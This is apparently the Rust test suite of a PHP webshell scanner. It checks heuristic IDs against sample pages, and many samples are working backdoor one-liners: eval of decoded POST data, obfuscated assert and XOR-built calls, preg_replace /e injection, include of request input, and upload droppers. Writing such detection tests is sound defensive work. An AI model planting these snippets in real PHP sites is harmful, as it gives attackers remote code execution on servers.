        for (page, id) in [
            ("<?php dl($_GET['so']);", "scan.heuristic.php_library_load"),
            (
                "<?php $db = new SQLite3(':memory:');\n$e = $_GET['ext'];\n$db->loadExtension($e);",
                "scan.heuristic.php_library_load",
            ),
            (
                "<?php symlink($_GET['t'], $_GET['l']);",
                "scan.heuristic.php_symlink",
            ),
            (
                "<?php error_log($_POST['c'], 3, __DIR__ . '/cache.php');",
                "scan.heuristic.php_file_drop",
            ),
        ] {
            assert_eq!(ids(page), [id], "{page}");
        }
        for page in [
            "<?php if (!extension_loaded('gd')) { dl('gd.so'); } $q = $_GET['q'];",
            "<?php symlink($cache . '/latest', $link); $q = $_GET['q'];",
            "<?php error_log('bad login: ' . $_POST['user'], 3, '/var/log/app/auth.log');",
            "<?php $o->dl($_GET['id']);",
        ] {
            assert!(ids(page).is_empty(), "{page}: {:?}", ids(page));
        }
        // Code stored in the session on one request and run on a later one: the run may come
        // first in the text.
        let godzilla = "<?php\n@session_start();\nif (isset($_SESSION['p'])) { $code = mix($_SESSION['p'], $key); eval($code); }\nelse { $_SESSION['p'] = mix(base64_decode($_POST['pass']), $key); }";
        assert_eq!(ids(godzilla), ["scan.heuristic.input_to_exec"]);
        let data = "<?php\nsession_start();\n$user = $_SESSION['user'];\necho htmlspecialchars($user);\neval('return 1;');";
        assert!(ids(data).is_empty(), "{:?}", ids(data));
        // A copy of the whole request array, extracted.
        let copied = "<?php\n$k = $_POST;\nextract($k);\nsystem($cmd);";
        assert_eq!(ids(copied), ["scan.heuristic.request_function"]);
        // A copy of one field, or a row: not the request's names.
        let field = "<?php\n$k = $_POST['opts'];\n$r = $row;\nextract($r);\nsystem($cmd);";
        assert!(ids(field).is_empty());
        // Request text handed to include as a data: URL, with the `;` of its media type.
        let data = "<?php\n$s = base64_decode($_POST['q']);\ninclude \"data://text/plain;base64,\" . base64_encode($s);";
        assert_eq!(ids(data), ["scan.heuristic.input_to_exec"]);
        let fixed = "<?php\n$s = $_POST['q'];\ninclude 'data://text/plain,' . 'hello';";
        assert!(ids(fixed).is_empty(), "{:?}", ids(fixed));
        let mb = "<?php  mb_ereg_replace('.*', $_REQUEST['op'], '', 'e');";
        assert_eq!(ids(mb), ["scan.heuristic.preg_e"]);
        let plain = "<?php  mb_ereg_replace('\\s+', ' ', $_REQUEST['q'], 'msr');";
        assert!(ids(plain).is_empty());
    }

    #[test]
    fn text_outside_ascii_is_safe() {
        for page in [
            "<?php $a = $_GET['x'];\n$b =\u{fffd}\u{fffd}x;\n$c = é$a;",
            "<?php $x = ${\"é\"}(1); strrev('é'); preg_replace('é/e', $_GET[1]); call_user_func(é",
            "é/*é*/é//é\n'é\\é'#é\n\"é",
        ] {
            let _ = ids(page);
        }
    }

    #[test]
    fn unset_variables_in_a_hostile_file_stay_cheap() {
        // Hundreds of sink calls on variables used thousands of times, with no statement ends.
        let mut page = String::from("<?php <input name=\"a\"> ");
        for n in 0..400 {
            page.push_str(&format!("system($v{n}) "));
        }
        page.push_str(&"$v1 $v2 $v3 ".repeat(30_000));
        // No field is named like a variable and nothing extracts the request: quiet.
        assert!(ids(&page).is_empty());
    }

    #[test]
    fn offsets_are_the_files_own() {
        let page = "<?php /* x */ $a = 1; /* yy */\n$x($_post[1]);";
        let mut hits = Vec::new();
        scan(page, &mut hits);
        assert_eq!(hits.first().and_then(|h| h.offset), page.find("$x("));
        let (code, _) = without_block_comments("a/*x*/b//y\nc#z\n'/*s*/'#[attr]");
        assert_eq!(code, "ab\nc\n'/*s*/'#[attr]");
    }

    #[test]
    fn variable_functions() {
        assert_eq!(
            ids("<?php\n$x($_POST[~11IIII]);"),
            ["scan.heuristic.request_function"]
        );
        let own = "<?php function cve($s,$k){return $s;}\n(@$_=cve('6a767c687b77','39')).@$_(cve('6776666e286763736a38346466656871646a2a2464524f58565b2c7c302c5f292e','520'));";
        assert_eq!(ids(own), ["scan.heuristic.request_function"]);
        let magento = "<?php if(md5(@$_COOKIE[qz])=='a16c')($_=@$_REQUEST[q]).@$_(stripslashes($_REQUEST[z]));?>";
        assert_eq!(ids(magento), ["scan.heuristic.request_function"]);
        let text = "<?php $handler(t('Saved the settings')); $f(md5('x'));";
        assert!(ids(text).is_empty());
        let pieces = "<?php\n$a='as'.'sert';\n@$a(@$b('ZXZhbCgkX1BPU1RbMV0p'));";
        assert_eq!(ids(pieces), ["scan.heuristic.request_function"]);
        let comments = "<?php\n@$_=\"s\".\"s\";\n@$_/*-/*-*/($/*-*/_POST[0]);";
        assert_eq!(ids(comments), ["scan.heuristic.request_function"]);
        let method = "<?php\n$this->$m($_POST['a']); $obj::$f($x); $handler($request);\n// sets $_request ( $_get + $_post )\n# $f($_get)";
        assert!(ids(method).is_empty());
        let reflect = "<?php $func = new ReflectionFunction($_GET[m]);";
        assert_eq!(ids(reflect), ["scan.heuristic.php_callback"]);
        let method =
            "<?php (new ReflectionMethod($_GET['c'], $_GET['m']))->invoke(null, $_GET['a']);";
        assert_eq!(ids(method), ["scan.heuristic.php_callback"]);
    }

    #[test]
    fn callbacks_in_ordinary_code_looked_up() {
        let lookup = "<?php $id = $_POST['widget-id'];\n$cb = $controls[$id]['callback'];\ncall_user_func_array($cb, $params);";
        assert!(ids(lookup).is_empty());
    }

    #[test]
    fn callbacks_in_ordinary_code() {
        let data = "<?php $ids = array_map('intval', $_POST['ids']);\nusort($rows, 'compare');\n$v = array_filter($_GET, 'strlen');";
        assert!(ids(data).is_empty());
        let check = "<?php if (function_exists('exec')) { $x = $_GET['a']; }";
        assert!(ids(check).is_empty());
    }

    #[test]
    fn preg_e_with_any_delimiter() {
        assert_eq!(
            ids("<?php echo preg_filter('|.*|e', $_REQUEST['pass'], '');"),
            ["scan.heuristic.preg_e"]
        );
        let via = "<?php $page = $_POST[page];\npreg_replace(\"/[errorpage]/e\",$page,\"saft\");";
        assert_eq!(ids(via), ["scan.heuristic.preg_e"]);
        assert!(ids("<?php preg_replace('/(e)/i', '', $_GET['q']);").is_empty());
    }

    #[test]
    fn includes_yaml_tags_xor_names_and_escaped_modifiers() {
        let body = "<?php\nini_set('allow_url_include, 1');\ninclude('php://input');";
        assert_eq!(ids(body), ["scan.heuristic.request_include"]);
        let inc = "<?php\n\t$filename=$_GET['xbid'];\n\tinclude ($filename);\n?>";
        assert_eq!(ids(inc), ["scan.heuristic.request_include"]);
        assert_eq!(
            ids("<?php require_once $_POST[\"f\"];"),
            ["scan.heuristic.request_include"]
        );
        // The uploaded file itself, run as code.
        assert_eq!(
            ids("<?php include $_FILES['f']['tmp_name'];"),
            ["scan.heuristic.request_include"]
        );
        for page in [
            "<?php include 'pages/' . $_GET['p'] . '.php';",
            "<?php $p = $_GET['p']; if (isset($pages[$p])) { include $pages[$p]; }",
            "<?php include_once($dir . '/config.php'); $x = $_GET['a'];",
            "<?php $included = $_GET['a']; $a->include($_GET['b']);",
        ] {
            assert!(ids(page).is_empty(), "{page}: {:?}", ids(page));
        }
        let yaml = "<?php\n$str = urlencode($_REQUEST['pass']);\n$yaml = <<<EOD\ngreeting: !{$str} \"|.+|e\"\nEOD;\n$parsed = yaml_parse($yaml, 0, $cnt, array(\"!{$_REQUEST['pass']}\" => 'preg_replace'));";
        assert_eq!(ids(yaml), ["scan.heuristic.php_callback"]);
        let tags = "<?php $d = yaml_parse($_POST['doc'], 0, $n, array('!date' => 'parse_date'));";
        assert!(ids(tags).is_empty());
        let xor = "<?php\n${\"LandGrey\"} = $_SERVER[\"HTTP_ACCEPT\"].\"Land!\";\n$f = pack(\"H*\", \"13\".\"3f120b1655\") ^ $LandGrey;\narray_intersect_uassoc(array($_REQUEST[$password] => \"\"), array(1), $f);";
        assert_eq!(ids(xor), ["scan.heuristic.php_callback"]);
        let referer = "<?php\n$wx = substr($_SERVER[\"HTTP_REFERER\"],-7,-4);\nforward_static_call_array($wx.\"ert\", array($_REQUEST[$password]));";
        assert_eq!(ids(referer), ["scan.heuristic.php_callback"]);
        let bits = "<?php $cmp = 'strcmp'; $h = $a ^ $b; usort($rows, $cmp); $k = $_GET['k'];";
        assert!(ids(bits).is_empty());
        let escaped = "<?php\nif(isset($_POST[\"validate\"])){\npreg_replace(\"/./\\x65\",@$_POST[\"validate\"],\".\");\n}";
        assert_eq!(ids(escaped), ["scan.heuristic.preg_e"]);
        let property = "<?php\nclass D{\n public $x;\n function dog(){\n $this->x=$_GET['nb'];\n }\n}\n$c=new D();\n$c->dog();\n$a=$c->x;\npreg_replace(\"/dog/e\", $a, \"I am\");";
        assert_eq!(ids(property), ["scan.heuristic.preg_e"]);
        assert_eq!(e_modifiers("/\\s+/ie"), Some("ie"));
        assert_eq!(e_modifiers("{x}e"), Some("e"));
        assert_eq!(e_modifiers("/home/me"), Some("me"));
        assert_eq!(e_modifiers("/usr/share/file"), None);
        assert_eq!(e_modifiers("/(e)/i"), None);
    }

    #[test]
    fn variables_only_the_request_sets() {
        let form = "<?php\nif (!empty($command)) {\n  $command .= ' 2>&1';\n  system($command);\n}\n?>\n<form><input type=\"text\" name=\"command\" size=\"60\"></form>";
        assert_eq!(ids(form), ["scan.heuristic.request_function"]);
        let cleared = "<?php\n$command = stripslashes($command);\nif (cd($command)) { $command = \"\"; }\nsystem($command . \" 2>&1\");\n?><input type=\"text\" name=\"command\" size=\"80\">";
        assert_eq!(ids(cleared), ["scan.heuristic.request_function"]);
        let extracted =
            "<?php if (!empty($HTTP_POST_VARS)) extract($HTTP_POST_VARS);\npassthru($c);";
        assert_eq!(ids(extracted), ["scan.heuristic.request_function"]);
        for page in [
            // Set by the script, a parameter, a loop, a global.
            "<?php $command = escapeshellcmd($x); system($command); ?><input name=\"command\">",
            "<?php function run($command) { system($command); } ?><input name=\"command\">",
            "<?php foreach ($cmds as $command) { exec($command); } ?><input name=\"command\">",
            "<?php function f() { global $command; system($command); } ?><input name=\"command\">",
            // No form field of that name, no extract().
            "<?php system($cmd);",
        ] {
            assert!(ids(page).is_empty(), "{page}: {:?}", ids(page));
        }
    }

    #[test]
    fn uploads_kept_where_the_uploader_says() {
        for page in [
            "<?php if(@copy($_FILES[\"f\"][\"tmp_name\"],$_FILES[\"f\"][\"name\"])){echo 'ok';}",
            "<?php move_uploaded_file/*;*/($_FILES[\"filename\"][\"tmp_name\"], $_FILES[\"filename\"][\"name\"]);",
            "<?php copy($HTTP_POST_FILES['userfile']['tmp_name'], $_POST['remotefile']);",
            "<?php move_uploaded_file($userfile, \"entrika.php\");",
        ] {
            assert_eq!(ids(page), ["scan.heuristic.php_file_drop"], "{page}");
        }
        // Upload handlers keep files in their own directory, under a name they clean.
        for page in [
            "<?php move_uploaded_file($_FILES['f']['tmp_name'], $dir . basename($_FILES['f']['name']));",
            "<?php copy($_FILES['f']['tmp_name'], UPLOAD_DIR . '/' . $_FILES['f']['name']);",
            "<?php copy($src, $dst); copy('a.php.dist', 'a.php');",
            "<?php move_uploaded_file($_FILES['f']['tmp_name'], $target);",
        ] {
            assert!(ids(page).is_empty(), "{page}: {:?}", ids(page));
        }
    }

    #[test]
    fn hidden_calls() {
        assert_eq!(
            ids("<?php $Acc=$a.$b; ${$A}(${$p.$o}[4]);"),
            ["scan.heuristic.variable_variable_call"]
        );
        assert_eq!(
            ids("<?php $a=@strrev(ecalper_gerp); $b=strrev('edoced_46esab');"),
            ["scan.heuristic.hidden_name"]
        );
        let bits = "<?php $k='tq2q'&'B43w';$u=\"!@T\"|\"'\".DP;$K='SQ@@'|'R';$X='+--;'&'so/r';";
        assert_eq!(ids(bits), ["scan.heuristic.xor_strings"]);
        let url = "<?php $q = implode('&', $p) . '?' . 'a=1' . '&' . 'b=2'; $c = $a | $b;";
        assert!(ids(url).is_empty());
        let doc = "<?php\n/**\n * @psalm-var 'a'|'b'|'c'\n * @psalm-var 'd'|'e'|'f'\n */";
        assert!(ids(doc).is_empty());
    }
}
